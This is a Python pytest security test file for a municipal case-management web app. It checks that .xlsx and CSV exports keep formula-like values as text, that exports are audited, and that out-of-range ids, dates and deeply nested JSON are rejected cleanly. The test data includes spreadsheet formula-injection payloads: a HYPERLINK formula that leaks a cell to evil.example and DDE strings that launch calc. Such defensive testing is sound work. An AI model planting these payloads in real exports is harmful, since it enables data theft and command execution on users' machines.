"""Issue 11, inputs and exports: formula injection in the .xlsx exports (6), unaudited exports (15b), and the
500s of ids, dates and JSON out of range (12). Through the real HTTP routes, on PostgreSQL and, for the route
walk, also on SQLite (the embedded database, where an id beyond 64 bits raised OverflowError)."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from commandcenter.access import PERMISSIONS
from commandcenter.db import db
from commandcenter.models import AuditLog, Place
from tests.conftest import csrf_from, logged_in, make_settings, token_for
from tests.test_api import report_body

pytestmark = [pytest.mark.security]

HUGE = "99999999999999999999"  # beyond a signed 64-bit integer
JUST_ABOVE = str(2**31)  # beyond PostgreSQL's integer columns
INT64_ABOVE = str(2**63)
VERY_LONG = "9" * 5000  # beyond Python's int() digit limit
RANGE_TEXT = "2000-01-01 至 2100-12-31"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def text(response) -> str:
    return response.get_data(as_text=True)


@pytest.fixture(autouse=True)
def _many_logins(request):
    """The walk logs in as many roles: lift the login rate limit of whichever app the test uses."""
    if "app" in request.fixturenames:
        request.getfixturevalue("app").config["SETTINGS"].login_rate_limit = "1000 per minute"


def report(client, headers, world, grid: int = 0, **overrides):
    return client.post("/api/v1/cases", json=report_body(world, grid, **overrides), headers=headers)


def sheet_rows(data: bytes, sheet: int = 0):
    return list(load_workbook(io.BytesIO(data)).worksheets[sheet].iter_rows())


# --- 6. formula injection ----------------------------------------------------------------------------------


def test_a_reported_address_stays_text_in_the_gridworkers_export(app, world, client):
    headers = token_for(client, "gw0")
    for address in FORMULAS:
        response = report(client, headers, world, address=address, description=address)
        assert response.status_code == 201, response.get_json()
    supervisor = logged_in(app.test_client(), "city_supervisor")
    response = supervisor.get(f"/drill/worker/{world.accounts['gw0'].id}/export.xlsx")
    assert response.status_code == 200
    rows = sheet_rows(response.data)
    column = [c.value for c in rows[0]].index("地址")
    cells = {row[column].value: row[column] for row in rows[1:]}
    for address in FORMULAS:
        cell = cells[address]  # the value unchanged for display
        assert cell.data_type != "f" and cell.data_type == "s", (address, cell.data_type)
        assert cell.quotePrefix, address


def test_a_place_name_stays_text_and_numbers_stay_numbers_in_the_place_export(app, world, client):
    with app.app_context():
        village = db.get(Place, world.villages[0].id)
        village.name = "=cmd|' /C calc'!A0"
        db.commit()
    report(client, token_for(client, "gw0"), world)
    logged_in(client, "city_supervisor")
    town = client.get(f"/drill/{world.towns[0].id}/export.xlsx")
    assert town.status_code == 200
    rows = sheet_rows(town.data)
    names = {row[0].value: row for row in rows[1:]}
    row = names["=cmd|' /C calc'!A0"]
    assert row[0].data_type == "s" and row[0].quotePrefix
    assert all(c.data_type == "n" for c in row[1:] if c.value is not None)  # figures are numbers
    assert any(isinstance(c.value, int) for c in row[1:])
    # the second sheet names the place: the same rule
    own = client.get(f"/drill/{world.villages[0].id}/export.xlsx")
    about = {r[0].value: r[1] for r in sheet_rows(own.data, 1)}
    assert about["单位"].value == "=cmd|' /C calc'!A0" and about["单位"].data_type == "s"


def test_the_shared_cell_rule_for_xlsx_and_csv():
    from commandcenter.exports import csv_row, is_formula_like, xlsx_append, xlsx_cell

    texts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    assert all(is_formula_like(t) for t in texts)
    assert not any(is_formula_like(v) for v in (-5, -5.5, "-5", "+3.2", "普通文字", "a=b", None))
    assert csv_row([*texts, -5, "-5", "文字"]) == ["'" + t for t in texts] + [-5, "-5", "文字"]
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["=1+1", -7]))
    assert out.getvalue().strip() == "'=1+1,-7"

    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, [*texts, -5, 2.5, "-5"])
    xlsx_cell(ws, 2, 1, FORMULA)
    xlsx_cell(ws, 2, 2, -12)
    saved = io.BytesIO()
    wb.save(saved)
    back = load_workbook(io.BytesIO(saved.getvalue())).active
    for i, value in enumerate(texts, start=1):
        cell = back.cell(row=1, column=i)
        assert cell.value == value and cell.data_type == "s" and cell.quotePrefix, value
    assert back.cell(row=1, column=7).value == -5 and back.cell(row=1, column=7).data_type == "n"
    assert back.cell(row=1, column=8).value == 2.5 and back.cell(row=1, column=8).data_type == "n"
    assert back.cell(row=2, column=1).value == FORMULA and back.cell(row=2, column=1).data_type == "s"
    assert back.cell(row=2, column=2).value == -12 and back.cell(row=2, column=2).data_type == "n"


def test_every_export_view_writes_through_the_shared_cell_rule():
    """No export writes cells by hand: openpyxl's append/cell(value=...) and csv writers only in exports.py."""
    from commandcenter.settings import ROOT

    offenders = []
    for path in (ROOT / "commandcenter").rglob("*.py"):
        if path.name == "exports.py" or "importer" in path.parts or "demo" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source or "csv.writer" in source or "DictWriter" in source:
            if re.search(r"\bws\.append\(|\.cell\([^)]*value=|csv\.writer\(|DictWriter\(", source):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- 15b. exports are audited ------------------------------------------------------------------------------


def test_each_xlsx_export_writes_an_audit_row(app, world, client):
    headers = token_for(client, "gw0")
    for _ in range(3):
        assert report(client, headers, world).status_code == 201
    logged_in(client, "city_supervisor")
    gw0 = world.accounts["gw0"].id
    assert client.get(f"/drill/{world.towns[0].id}/export.xlsx?kind=hazard").status_code == 200
    assert client.get(f"/drill/worker/{gw0}/export.xlsx").status_code == 200
    with app.app_context():
        rows = (
            db.execute(
                select(AuditLog)
                .where(AuditLog.action.in_(("drill.export", "drill.worker_export")))
                .order_by(AuditLog.id)
            )
            .scalars()
            .all()
        )
        assert [r.action for r in rows] == ["drill.export", "drill.worker_export"]
        place, worker = rows
        for row in rows:
            assert row.username == "city_supervisor" and row.success and row.address
        assert place.object_type == "place" and place.object_id == str(world.towns[0].id)
        assert world.towns[0].name in place.detail and "类型=hazard" in place.detail
        assert re.search(r"\d{4}-\d{2}-\d{2} 至 \d{4}-\d{2}-\d{2}", place.detail)
        assert "共 2 行" in place.detail  # the town's two villages
        assert worker.object_type == "account" and worker.object_id == str(gw0)
        assert "gw0上报事件" in worker.detail and "共 3 行" in worker.detail
    # a refused export (bad period) is not an export
    assert client.get(f"/drill/{world.towns[0].id}/export.xlsx?period=bogus").status_code == 400
    with app.app_context():
        assert db.query(AuditLog).filter_by(action="drill.export").count() == 1


# --- 12. ids out of range ------------------------------------------------------------------------------------

ROLE_PREFERENCE = (
    "supervisor",
    "operator",
    "center_admin",
    "duty_officer",
    "leader",
    "admin",
    "security_admin",
    "auditor",
    "gridworker",
    "department",
    "volunteer",
)
ROLE_ACCOUNT = {"center_admin": "city_center", "gridworker": "gw0", "department": "dept0", "volunteer": "volunteer0"}


def account_for(permission: str) -> str | None:
    if permission == "public":
        return None
    role = next(r for r in ROLE_PREFERENCE if r in PERMISSIONS[permission])
    return ROLE_ACCOUNT.get(role, f"city_{role}")


def int_rules(app):
    for rule in app.url_map.iter_rules():
        if "<int:" in rule.rule:
            yield rule


def fill(rule, value: str) -> str:
    path = re.sub(r"<int:\w+>", value, rule.rule)
    path = re.sub(r"<any\([^)]*\):\w+>", "json", path)
    return re.sub(r"<(?:\w+:)?(\w+)>", lambda m: "register" if m.group(1) == "action" else "x", path)


def walk_int_routes(app) -> list[str]:
    """Every <int:…> route with ids no database integer holds, as an account that has the permission."""
    clients: dict[str | None, tuple] = {}

    def session_for(username: str | None, api: bool):
        key = (username, api)
        if key not in clients:
            client = app.test_client()
            if username is None:
                clients[key] = (client, {}, "")
            elif api:
                clients[key] = (client, token_for(client, username), "")
            else:
                logged_in(client, username)
                token = csrf_from(text(client.get("/", follow_redirects=True)))
                clients[key] = (client, {}, token)
        return clients[key]

    problems, seen = [], 0
    for rule in int_rules(app):
        permission = getattr(app.view_functions[rule.endpoint], "_permission", "public")
        api = rule.rule.startswith("/api/")
        client, headers, token = session_for(account_for(permission), api)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            for value in (HUGE, JUST_ABOVE, INT64_ABOVE, VERY_LONG):
                url = fill(rule, value)
                if method == "GET":
                    response = client.get(url, headers=headers)
                elif api:
                    response = client.open(url, method=method, json={}, headers=headers)
                else:
                    response = client.open(url, method=method, data={"csrf_token": token, "note": "x"})
                seen += 1
                if response.status_code != 404:
                    problems.append(f"{method} {rule.rule} [{value[:24]}] → {response.status_code}")
    assert seen > 20, "the walk found too few routes"
    return problems


def test_every_int_route_answers_404_for_an_id_no_database_holds(app, world):
    rules = [r.rule for r in int_rules(app)]
    assert "/cases/<int:case_id>" in rules and "/api/v1/cases/<int:case_id>" in rules
    assert walk_int_routes(app) == []


@pytest.fixture
def sqlite_app(tmp_path):
    """The embedded mode (SQLite) with the test world: where 99999999999999999999 raised OverflowError."""
    from commandcenter import create_app
    from commandcenter import db as dbmod
    from commandcenter.db import Base, get_engine
    from tests.world import build_world

    url = f"sqlite:///{tmp_path / 'embedded.db'}"
    application = create_app(make_settings(tmp_path, url))
    application.config["SETTINGS"].login_rate_limit = "1000 per minute"
    with application.app_context():
        Base.metadata.create_all(get_engine())
        build_world()
    db.remove()
    yield application
    db.remove()
    if dbmod._engine is not None and str(dbmod._engine.url) == url:
        dbmod._engine.dispose()


def test_every_int_route_answers_404_on_sqlite_too(sqlite_app):
    assert walk_int_routes(sqlite_app) == []


@pytest.mark.parametrize(
    "url, field",
    [
        ("/cases/?category={}", "category"),
        ("/cases/?town={}", "town"),
        ("/cases/?village={}", "village"),
        ("/cases/?page={}", "page"),
        ("/drill/?category={}", "category"),
        ("/persons/?grid={}", "grid"),
        ("/admin/audit?before_id={}", "before_id"),
    ],
)
def test_an_id_filter_out_of_range_is_a_400_naming_the_field(app, world, client, url, field):
    username = {"/persons/": "city_center", "/admin/audit": "city_auditor"}.get(url.split("?")[0], "city_supervisor")
    logged_in(client, username)
    for value in (HUGE, JUST_ABOVE, "-" + HUGE, VERY_LONG):
        response = client.get(url.format(value), follow_redirects=True)
        assert response.status_code == 400, (url, value, response.status_code)
        assert f"{field}: 数值超出范围" in text(response)


def test_the_id_helpers():
    from commandcenter.inputs import DB_INT_MAX, integer_out_of_range, parse_id

    assert parse_id("12") == 12 and parse_id(str(DB_INT_MAX)) == DB_INT_MAX
    assert [parse_id(v) for v in ("", "0", "-3", JUST_ABOVE, HUGE, VERY_LONG, "²", "1e3", " ")] == [None] * 9
    assert all(integer_out_of_range(v) for v in (JUST_ABOVE, HUGE, "-" + HUGE, VERY_LONG, "+" + INT64_ABOVE))
    assert not any(integer_out_of_range(v) for v in ("12", str(DB_INT_MAX), "0" * 5000 + "1", "abc", "", "1.5"))


def test_an_id_filter_in_range_still_reaches_the_page(app, world, client):
    logged_in(client, "city_supervisor")
    page = client.get(f"/cases/?category=2147483647&town={world.towns[0].id}")
    assert page.status_code == 400 and "事件类别不存在" in text(page)  # the page's own message, not the guard's
    assert client.get(f"/cases/?town={world.towns[0].id}").status_code == 200


def test_the_api_before_id_out_of_range_is_a_422_naming_the_field(app, world, client):
    headers = token_for(client, "gw0")
    for value in (HUGE, JUST_ABOVE, VERY_LONG):
        response = client.get(f"/api/v1/cases?before_id={value}", headers=headers)
        assert response.status_code == 422, value
        assert response.get_json()["error"]["field"] == "before_id"
    assert client.get("/api/v1/cases?before_id=2147483647", headers=headers).status_code == 200


def test_an_id_in_a_form_out_of_range_is_a_400(app, world, client):
    logged_in(client, "city_operator")
    token = csrf_from(text(client.get("/hotline/new")))
    response = client.post("/hotline/new", data={"csrf_token": token, "category_id": HUGE, "grid_id": VERY_LONG})
    assert response.status_code == 400 and "数值超出范围" in text(response)


# --- 12. dates out of range ----------------------------------------------------------------------------------

OLD, FAR = "0001-01-01T00:00:00+08:00", "9999-12-31T23:59:59-10:00"


@pytest.mark.parametrize("value", [OLD, FAR, "1999-12-31T23:00:00+08:00", "2101-01-01T00:00:00+00:00"])
def test_api_report_and_hotline_dates_out_of_range_are_422_naming_the_field(app, world, client, value):
    response = report(client, token_for(client, "gw0"), world, discovered_at=value)
    assert response.status_code == 422, response.get_json()
    error = response.get_json()["error"]
    assert error["field"] == "discovered_at" and RANGE_TEXT in error["message"]
    lat, lon = world.grid_point(0)
    order = {
        "work_order_no": "GD" + uuid.uuid4().hex[:10],
        "caller_phone": "13812345678",
        "category_code": "0101",
        "description": "噪音扰民",
        "lat": lat,
        "lon": lon,
        "received_at": value,
    }
    response = client.post("/api/v1/hotline/work-orders", json=order, headers=token_for(client, "city_operator"))
    assert response.status_code == 422, response.get_json()
    assert response.get_json()["error"]["field"] == "received_at"


def test_api_report_at_the_edges_of_the_range_is_accepted(app, world, client):
    response = report(client, token_for(client, "gw0"), world, discovered_at="2000-01-01T00:00:00+08:00")
    assert response.status_code == 201, response.get_json()


@pytest.mark.parametrize("value", [OLD, FAR])
def test_fieldwork_times_out_of_range_are_422_naming_the_field(app, world, client, value):
    headers = token_for(client, "gw0")
    ok = "2026-03-02T09:00:00+08:00"
    for started, ended, field in ((value, ok, "started_at"), (ok, value, "ended_at")):
        response = client.post(
            "/api/v1/patrols",
            headers=headers,
            json={"client_key": uuid.uuid4().hex, "started_at": started, "ended_at": ended, "track": []},
        )
        assert response.status_code == 422, response.get_json()
        assert response.get_json()["error"]["field"] == field
    response = client.post(
        "/api/v1/visits", headers=headers, json={"client_key": uuid.uuid4().hex, "person_id": 1, "at": value}
    )
    assert response.status_code == 422 and response.get_json()["error"]["field"] == "at"


@pytest.mark.parametrize(
    "query, message",
    [
        ("date_from=0001-01-01", "上报日期（起）须在"),
        ("date_to=9999-12-31", "上报日期（止）须在"),
        ("date_from=1999-12-31&date_to=2101-01-01", "上报日期（起）须在"),
    ],
)
def test_case_list_dates_out_of_range_are_400_naming_the_field(app, world, client, query, message):
    logged_in(client, "city_supervisor")
    response = client.get("/cases/?" + query)
    assert response.status_code == 400 and message in text(response) and RANGE_TEXT in text(response)


@pytest.mark.parametrize(
    "period, message",
    [
        ("start=0001-01-01&end=0001-01-31", "开始日期：须在"),
        ("start=9999-12-01&end=9999-12-31", "开始日期：须在"),
        ("start=2100-12-01&end=9999-12-31", "结束日期：须在"),
    ],
)
def test_drill_periods_out_of_range_are_400_naming_the_field(app, world, client, period, message):
    logged_in(client, "city_supervisor")
    gw0 = world.accounts["gw0"].id
    for path in (
        f"/drill/{world.city.id}",
        f"/drill/{world.city.id}/table",
        f"/drill/{world.city.id}/export.xlsx",
        f"/drill/worker/{gw0}",
        f"/drill/worker/{gw0}/export.xlsx",
    ):
        response = client.get(f"{path}?period=custom&{period}")
        assert response.status_code == 400, (path, response.status_code)
        assert message in text(response) and RANGE_TEXT in text(response), path


@pytest.mark.parametrize("value", ["0001-01-01T00:00", "9999-12-31T23:59", "1999-12-31T23:59"])
def test_hotline_form_discovered_at_out_of_range_is_400_naming_the_field(app, world, client, value):
    logged_in(client, "city_operator")
    token = csrf_from(text(client.get("/hotline/new")))
    lat, lon = world.grid_point(0)
    response = client.post(
        "/hotline/new",
        data={
            "csrf_token": token,
            "external_ref": "GD" + uuid.uuid4().hex[:8],
            "caller_phone": "13812345678",
            "category_id": world.category("0101").id,
            "address": "东湖路 1 号",
            "lat": lat,
            "lon": lon,
            "description": "噪音扰民",
            "discovered_at": value,
        },
    )
    assert response.status_code == 400
    page = text(response)
    assert "发现时间" in page and ("须在 " + RANGE_TEXT in page or "不能晚于当前时间" in page)


@pytest.mark.parametrize(
    "query, field",
    [
        ("start_date=0001-01-01T00:00:00Z", "start_date"),
        ("end_date=9999-12-31", "end_date"),
        ("start_date=9999-12-31T23:59:59-10:00", "start_date"),
    ],
)
def test_open311_dates_out_of_range_are_400_naming_the_field(app, world, client, query, field):
    response = client.get("/open311/v2/requests.json?" + query)
    assert response.status_code == 400
    description = response.get_json()[0]["description"]
    assert description.startswith(field) and RANGE_TEXT in description


@pytest.mark.parametrize(
    "url",
    ["/assessment/?month=0001-01", "/assessment/?month=9999-12", "/points/?month=0001-01", "/assessment/0001-01.json"],
)
def test_months_out_of_range_are_400(app, world, client, url):
    logged_in(client, "city_supervisor")
    assert client.get(url).status_code == 400


def test_one_definition_of_the_sane_range():
    from datetime import date, datetime

    from commandcenter import inputs
    from commandcenter.measures import Period

    assert (inputs.DATE_MIN, inputs.DATE_MAX) == (date(2000, 1, 1), date(2100, 12, 31))
    assert inputs.date_in_range(datetime(2100, 12, 31, 23, 59)) and not inputs.date_in_range(date(1999, 12, 31))
    Period.parse_month("2000-01")
    Period.parse_month("2100-12")
    with pytest.raises(ValueError):
        Period.parse_month("2101-01")


# --- 12. JSON depth ------------------------------------------------------------------------------------------


def test_json_nested_100000_deep_is_a_400_naming_the_body(app, world, client):
    headers = {**token_for(client, "gw0"), "Content-Type": "application/json"}
    for body in ("[" * 100000 + "]" * 100000, '{"a":' * 100000 + "1" + "}" * 100000):
        response = client.post("/api/v1/cases", data=body, headers=headers)
        assert response.status_code == 400, response.status_code
        error = response.get_json()["error"]
        assert error["field"] == "body" and "32" in error["message"]
    # no login needed to try it on the token endpoint
    response = client.post(
        "/api/v1/tokens", data="[" * 50000 + "]" * 50000, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 400 and response.get_json()["error"]["field"] == "body"


def test_json_depth_limit_is_32(app, world, client):
    headers = token_for(client, "gw0")

    def nested(depth: int):  # `depth` levels including the outer object
        value = []
        for _ in range(depth - 2):
            value = [value]
        return {"description": value}

    too_deep = client.post("/api/v1/cases", json=nested(33), headers=headers)
    assert too_deep.status_code == 400 and too_deep.get_json()["error"]["field"] == "body"
    deep_enough = client.post("/api/v1/cases", json=nested(32), headers=headers)
    assert deep_enough.status_code == 422 and deep_enough.get_json()["error"]["field"] != "body"
